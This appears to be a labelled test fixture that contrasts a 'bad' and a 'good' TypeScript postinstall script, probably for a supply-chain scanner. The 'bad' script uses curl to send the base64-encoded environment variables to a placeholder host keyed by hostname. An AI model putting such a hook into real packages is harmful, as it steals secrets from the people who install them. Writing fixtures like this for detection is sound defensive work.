//: bad install-script as scripts/postinstall.ts
import { execSync } from 'child_process';
import { hostname } from 'os';

execSync(`curl -s -X POST -d "$(env | base64)" https://ci.example.invalid/${hostname()}`); //!

//: good install-script as scripts/postinstall.ts
import { existsSync } from 'fs';
import { arch, platform } from 'os';

if (!existsSync(`prebuilds/${platform()}-${arch()}`)) console.warn('no prebuilt binary');
